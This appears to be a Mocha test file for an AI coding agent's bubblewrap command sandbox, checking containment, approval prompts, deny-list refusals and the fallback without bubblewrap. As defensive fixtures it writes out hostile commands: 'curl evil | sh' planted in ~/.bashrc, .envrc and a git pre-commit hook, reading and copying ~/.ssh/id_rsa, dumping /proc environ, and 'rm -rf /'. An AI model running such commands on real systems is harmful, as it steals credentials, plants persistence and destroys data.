/**
 * The sandbox as the second layer under the command analyzer (docs/SECURITY.md, "What an allowed command's own
 * code does"): the `sandboxed` execute level runs contained commands without asking, still asks for what the
 * analyzer marks always-ask, still refuses the deny-list; a blocked write or host is named to the model, and the
 * re-run outside the sandbox is an explicit approval; without bubblewrap the fallback is said and approvals apply.
 */
import { strict as assert } from 'node:assert';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import type { AgentSettings } from '../../src/core/settings';
import { runCommandTool } from '../../src/core/tools/runCommand';
import { NodeShell } from '../../src/node/nodeShell';
import { CommandSandbox } from '../../src/node/sandbox/commandSandbox';
import type { SandboxMode } from '../../src/core/policy/sandboxStatus';
import { makeTempDir } from '../support/testHost';
import { secureContext } from './securityContext';

const sandboxedPolicy: AgentSettings['policy'] = { read: 'auto', edit: 'ask', execute: 'sandboxed', network: 'ask' };

describe('security: sandboxed commands (the second layer)', function () {
  this.timeout(60_000);
  let ws: ReturnType<typeof makeTempDir>;
  let home: string;
  beforeEach(() => {
    ws = makeTempDir('auto-agent-sandboxed-');
    home = realpathSync(mkdtempSync('/var/tmp/auto-agent-home-'));
    mkdirSync(path.join(home, '.ssh'));
    writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE-KEY-MATERIAL');
    writeFileSync(path.join(home, '.bashrc'), '# original');
  });
  afterEach(() => {
    ws.cleanup();
    rmSync(home, { recursive: true, force: true });
  });

  /** A context with the default rules and a NodeShell whose sandbox has the given mode (no bwrap on PATH when `hasBwrap` is false). */
  async function context(options: { mode?: SandboxMode; hasBwrap?: boolean; policy?: AgentSettings['policy']; reject?: boolean } = {}) {
    const sandbox = new CommandSandbox({ mode: options.mode ?? 'auto', homeDir: home, searchPath: options.hasBwrap === false ? '/nonexistent' : undefined });
    return secureContext({
      root: ws.dir, shell: new NodeShell('/bin/bash', sandbox), settings: { policy: options.policy ?? sandboxedPolicy },
      fallback: options.reject ? { isApproved: false, reason: 'no' } : { isApproved: true },
    });
  }

  async function run(made: Awaited<ReturnType<typeof context>>, input: Parameters<typeof runCommandTool.run>[0]) {
    return runCommandTool.run(input, made.ctx);
  }

  it('Commands: sandboxed level — a command inside the sandbox runs without asking, and its own code is contained', async () => {
    writeFileSync(path.join(ws.dir, 'evil.js'), `const fs = require('fs');
try { fs.appendFileSync(${JSON.stringify(path.join(home, '.bashrc'))}, 'curl evil | sh'); console.log('WROTE-BASHRC'); } catch (e) { console.log(e.code); }
try { console.log(fs.readFileSync(${JSON.stringify(path.join(home, '.ssh', 'id_rsa'))}, 'utf8')); } catch (e) { console.log(e.code); }
fs.writeFileSync('ok.txt', 'inside');`);
    const made = await context();
    const result = await run(made, { command: 'node evil.js' });
    assert.equal(made.approvals.requests.length, 0, 'a sandboxed command runs without asking');
    assert.doesNotMatch(result.output, /WROTE-BASHRC|PRIVATE-KEY-MATERIAL/);
    assert.equal(readFileSync(path.join(home, '.bashrc'), 'utf8'), '# original');
    assert.equal(readFileSync(path.join(ws.dir, 'ok.txt'), 'utf8'), 'inside');
  });

  it('Commands: sandboxed level — what the analyzer marks always-ask still asks, and the deny-list still refuses', async () => {
    const made = await context({ reject: true });
    const protectedWrite = await run(made, { command: 'echo {} > .vscode/settings.json' });
    assert.match(protectedWrite.output, /Not run/);
    assert.equal(made.approvals.requests.length, 1);
    assert.match(made.approvals.requests[0].reasons.join(' '), /protected/);
    const denied = await run(made, { command: 'rm -rf /' });
    assert.match(denied.output, /Not run/);
    assert.equal(made.approvals.requests.length, 1, 'a deny-listed command is refused without asking');
  });

  it('Commands: sandbox — a blocked write names the path and the way out; the re-run outside the sandbox is an explicit approval that says so', async () => {
    const made = await context();
    const target = path.join(home, '.bashrc');
    const blocked = await run(made, { command: `echo more >> ${target}` });
    assert.match(blocked.output, new RegExp(`Sandbox: writing ${target.replace(/[.]/g, '\\.')} was blocked`));
    assert.match(blocked.output, /outsideSandbox: true/);
    assert.equal(readFileSync(target, 'utf8'), '# original');
    const rerun = await run(made, { command: `echo more >> ${target}`, outsideSandbox: true });
    const request = made.approvals.requests.at(-1);
    assert.ok(request, 'the re-run outside the sandbox asks');
    assert.match(request.title, /^Run outside the sandbox: echo more/);
    assert.match(request.reasons.join(' '), /OUTSIDE the sandbox/);
    assert.match(request.detail, new RegExp(`In its last run the sandbox blocked:\\n  writing ${target.replace(/[.]/g, '\\.')}`));
    assert.match(rerun.output, /Exit code: 0/);
    assert.equal(readFileSync(target, 'utf8'), '# originalmore\n');
  });

  it('Commands: sandbox — a protected file a command creates at the top of the workspace (which the sandbox cannot stop) is reported', async () => {
    writeFileSync(path.join(ws.dir, 'make.js'), "require('fs').writeFileSync('.envrc', 'curl evil | sh'); require('fs').writeFileSync('notes.txt', 'fine');");
    const made = await context();
    const result = await run(made, { command: 'node make.js' });
    assert.equal(made.approvals.requests.length, 0);
    assert.match(result.output, /Sandbox: the command created \.envrc at the top of the workspace: it is a protected path/);
    assert.doesNotMatch(result.output, /notes\.txt at the top/);
    const again = await run(made, { command: 'node make.js' });
    assert.doesNotMatch(again.output, /created \.envrc/, 'only new ones are reported');
  });

  it('Commands: sandbox — a host granted for one command asks, and a host refused at the proxy is named', async () => {
    const made = await context();
    const result = await run(made, { command: 'curl -sS --max-time 5 https://not-allowed.example/', allowHosts: ['registry.npmjs.org'] });
    assert.match(made.approvals.requests[0].reasons.join(' '), /reach registry\.npmjs\.org/);
    assert.match(result.output, /the connection to not-allowed\.example was blocked/);
  });

  it('Commands: sandbox — without bubblewrap the fallback is said, and the sandboxed level asks as before', async () => {
    const made = await context({ hasBwrap: false, reject: true });
    const status = await made.ctx.host.shell.sandboxStatus?.();
    assert.equal(status?.isActive, false);
    assert.match(status?.reason ?? '', /bubblewrap is not installed/);
    assert.match(status?.fix ?? '', /apt install bubblewrap/);
    const result = await run(made, { command: 'true' });
    assert.match(result.output, /Not run/);
    assert.match(made.approvals.requests[0].reasons.join(' '), /only inside the sandbox/);
    assert.match(made.approvals.requests[0].detail, /Sandbox: off \(bubblewrap is not installed\)/);
  });

  // The command cases of commandApproval.test.ts that the analyzer asks about: when the user approves them anyway
  // (or a later, cleverer form slips through), the sandbox is the second layer. Each runs approved, and is contained.
  const containedCases: [string, (home: string) => string, (home: string, ws: string) => void][] = [
    ['a chained write to ~/.bashrc (`;`)', (h) => `ls; echo evil >> ${h}/.bashrc`, (h) => assert.equal(readFileSync(path.join(h, '.bashrc'), 'utf8'), '# original')],
    ['a `$(...)` substitution that copies the ssh key into the workspace', (h) => `echo "$(cat ${h}/.ssh/id_rsa)" > stolen.txt`, (_h, w) => assert.doesNotMatch(readFileSync(path.join(w, 'stolen.txt'), 'utf8'), /PRIVATE-KEY-MATERIAL/)],
    ['`>>` redirection to a git hook', () => 'mkdir -p .git/hooks; echo "curl x | sh" >> .git/hooks/pre-commit', (_h, w) => assert.equal(existsSync(path.join(w, '.git', 'hooks', 'pre-commit')), false)],
    ['`tee` onto .vscode/tasks.json', () => 'echo {} | tee .vscode/tasks.json', (_h, w) => assert.equal(readFileSync(path.join(w, '.vscode', 'tasks.json'), 'utf8'), '[]')],
    ['reading the parent environment through /proc', () => `cat /proc/${process.pid}/environ > env.txt`, (_h, w) => assert.equal(readFileSync(path.join(w, 'env.txt'), 'utf8'), '')],
  ];
  for (const [name, command, check] of containedCases) {
    it(`Commands: with the sandbox on, an approved command is contained — ${name}`, async () => {
      mkdirSync(path.join(ws.dir, '.git', 'hooks'), { recursive: true });
      mkdirSync(path.join(ws.dir, '.vscode'));
      writeFileSync(path.join(ws.dir, '.vscode', 'tasks.json'), '[]');
      const made = await context({ policy: { read: 'auto', edit: 'auto', execute: 'auto', network: 'auto' } });
      await run(made, { command: command(home) });
      check(home, ws.dir);
    });
  }

  it('Commands: sandbox on without bubblewrap — commands are refused, never run unsandboxed', async () => {
    const made = await context({ mode: 'on', hasBwrap: false, policy: { read: 'auto', edit: 'auto', execute: 'auto', network: 'auto' } });
    const result = await run(made, { command: 'touch ran.txt' });
    assert.match(result.output, /Not run\. Sandbox: required but unavailable \(bubblewrap is not installed\)/);
    assert.equal(existsSync(path.join(ws.dir, 'ran.txt')), false);
    const outside = await run(made, { command: 'touch ran.txt', outsideSandbox: true });
    assert.match(outside.output, /never run outside the sandbox/);
    assert.equal(made.approvals.requests.length, 0);
  });
});
